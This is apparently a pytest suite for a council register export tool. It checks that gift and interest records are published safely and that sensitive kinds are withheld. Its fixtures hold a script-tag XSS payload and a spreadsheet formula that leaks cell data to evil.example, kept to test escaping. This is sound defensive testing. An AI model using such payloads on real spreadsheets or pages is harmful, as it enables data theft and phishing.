"""`coc register`: what is published, in which columns, and that hostile text stays inert.

Exports are compared with golden files in tests/golden/ (STYLE §7); after a deliberate change
regenerate them with `COC_UPDATE_GOLDEN=1 python -m pytest tests/test_export.py`.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from freezegun import freeze_time

from coc.cli.export import FORMULA_START, csv_cell, md_cell

GOLDEN = Path(__file__).parent / "golden"

RECORDS = {
    "registers/housing/gift/2026/GIF-2026-AAAAAA.yaml": """\
id: GIF-2026-AAAAAA
kind: gift
declarant: jsmith
recorded_by: jsmith
declared_on: 2026-03-02
details:
  received_on: 2026-03-01
  donor: <script>alert("x")</script>
  donor_organisation: Pipes | and *stars* & [links](http://evil.example)
  donor_is_supplier: true
  description: =HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")
  value_gbp: "12.50"
  outcome: shared-with-team
  reason: Internal note that is never published
decisions:
  - decision: approved
    by: mjones
    at: 2026-03-03T09:00:00Z
    details_version: 0
amendments: []
""",
    "registers/housing/gift/2026/GIF-2026-BBBBBB.yaml": """\
id: GIF-2026-BBBBBB
kind: gift
declarant: pbrown
declared_on: 2026-03-04
details:
  received_on: 2026-03-04
  donor: Withdrawn Donor
  description: Declared by mistake
  value_gbp: "5"
  outcome: declined
withdrawn:
  by: pbrown
  at: 2026-03-05T10:00:00Z
  reason: duplicate
""",
    "registers/housing/gift/2026/GIF-2026-CCCCCC.yaml": """\
id: GIF-2026-CCCCCC
kind: gift
declarant: agreen
declared_on: 2026-03-06
details:
  received_on: 2026-03-05
  donor: "@SUM(1+1)"
  description: "-2+3 tickets"
  value_gbp: 40
  outcome: returned
""",
    "registers/housing/hospitality/2026/HOS-2026-DDDDDD.yaml": """\
id: HOS-2026-DDDDDD
kind: hospitality
declarant: hhughes
declared_on: 2026-02-20
details:
  date: 2026-02-18
  host: Acme Lifts Ltd
  host_is_supplier: true
  event: Lift industry awards dinner
  purpose: work
  value_gbp: "85.00"
  outcome: accepted
""",
    "registers/housing/interest/2026/INT-2026-EEEEEE.yaml": """\
id: INT-2026-EEEEEE
kind: interest
declarant: pbrown
declared_on: 2026-01-10
details:
  nature: membership
  organisation: Tenants' Federation
  description: |
    Member of the committee.
    | Breaks | a | table |
  arose_on: 2025-12-01
  public_knowledge_test: possibly
""",
    "registers/housing/criminal-matter/2026/CRM-2026-FFFFFF.yaml": """\
id: CRM-2026-FFFFFF
kind: criminal-matter
declarant: jsmith
declared_on: 2026-02-02
details:
  event: caution
  event_date: 2026-02-01
  subject: self
  summary: SECRET criminal matter
""",
    "registers/housing/relationship/2026/REL-2026-GGGGGG.yaml": """\
id: REL-2026-GGGGGG
kind: relationship
declarant: jsmith
declared_on: 2026-02-02
details:
  other_person: mjones
  relationship: partner
  context: line-management
""",
}
SECRETS = ("CRM-2026", "REL-2026", "SECRET", "GIF-2026-BBBBBB", "Withdrawn Donor",
           "Internal note", "@example.gov.uk", "possibly")


@pytest.fixture
def published(make_register) -> Path:
    root = make_register("luton")
    for rel, text in RECORDS.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def export(coc, root: Path, *args: str) -> str:
    with freeze_time("2026-03-10"):
        result = coc(root, "register", *args)
    assert result.exit_code == 0, result.output
    return result.output


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("COC_UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text.encode())
    assert text == path.read_bytes().decode(), f"differs from {path}"


@pytest.mark.parametrize("fmt,args,golden", [
    ("md", (), "register.md"),
    ("html", (), "register.html"),
    ("json", (), "register.json"),
    ("csv", ("--kind", "gift"), "register-gift.csv"),
])
def test_exports_match_golden_files_and_publish_nothing_private(published, coc, fmt, args, golden):
    text = export(coc, published, "--format", fmt, *args)
    check_golden(golden, text)
    for secret in SECRETS:
        assert secret not in text, secret
    assert "GIF-2026-AAAAAA" in text and "Jane Smith" in text and "Housing Officer" in text


@pytest.mark.parametrize("kind", ["criminal-matter", "driving-disqualification", "relationship",
                                  "service-user-exception"])
def test_sensitive_kinds_are_refused_even_when_asked_for(published, coc, kind):
    for fmt in ("csv", "json"):
        result = coc(published, "register", "--kind", kind, "--format", fmt)
        assert result.exit_code == 1
        assert "never published" in result.output and "UK GDPR" in result.output
        assert "SECRET" not in result.output and "Traceback" not in result.output


def test_internal_kinds_are_refused_with_a_reason(published, coc, make_register):
    result = coc(published, "register", "--kind", "political-restriction-appeal")
    assert result.exit_code == 1 and "political opinions" in result.output
    mk = make_register("milton-keynes")
    assert coc(mk, "register", "--kind", "overpayment").exit_code == 1
    assert "no 'sponsorship'" in coc(mk, "register", "--kind", "sponsorship").output


def test_csv_neutralises_formulas(published, coc):
    rows = list(csv.reader(io.StringIO(export(coc, published, "--format", "csv", "--kind", "gift"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your refund\")" in cells
    assert "'@SUM(1+1)" in cells and "'-2+3 tickets" in cells
    assert not any(c.startswith(FORMULA_START) for c in cells)
    for start in FORMULA_START:
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("Plain = fine") == "Plain = fine" and csv_cell(True) == "yes"


def test_markdown_escapes_what_would_break_the_table(published, coc):
    text = export(coc, published, "--format", "md")
    unescaped = re.compile(r"(?<!\\)\|")
    for block in text.split("\n\n"):
        lines = [line for line in block.splitlines() if line.startswith("|")]
        if lines:
            assert len({len(unescaped.findall(line)) for line in lines}) == 1, block
    assert "<script>" not in text and "\\<script\\>" in text
    assert md_cell("a\nb|c") == "a b\\|c"


def test_html_is_autoescaped(published, coc):
    text = export(coc, published, "--format", "html")
    assert "<script>" not in text
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in text


def test_output_file_is_written_whole(published, coc, tmp_path):
    target = tmp_path / "public" / "gifts.csv"
    target.parent.mkdir()
    with freeze_time("2026-03-10"):
        result = coc(published, "register", "--kind", "gift", "--format", "csv", "-o", str(target))
    assert result.exit_code == 0 and result.output == ""
    assert target.read_bytes() == (GOLDEN / "register-gift.csv").read_bytes()
    assert [p.name for p in target.parent.iterdir()] == ["gifts.csv"]


def test_csv_needs_one_kind_and_unknown_kinds_fail(published, coc):
    result = coc(published, "register", "--format", "csv")
    assert result.exit_code == 2 and "--kind" in result.output
    assert coc(published, "register", "--kind", "bribe").exit_code == 1


def test_a_broken_record_is_reported_and_the_rest_published(published, coc_subprocess):
    (published / "registers/housing/gift/2026/GIF-2026-ZZZZZZ.yaml").write_bytes(b"id: [\x00")
    result = coc_subprocess(published, "register", "--format", "json")
    assert result.returncode == 0, result.stderr
    assert "1 record file(s) could not be read" in result.stderr
    gifts = json.loads(result.stdout)["tables"][0]
    assert gifts["kind"] == "gift" and [r["id"] for r in gifts["rows"]] == \
        ["GIF-2026-CCCCCC", "GIF-2026-AAAAAA"]
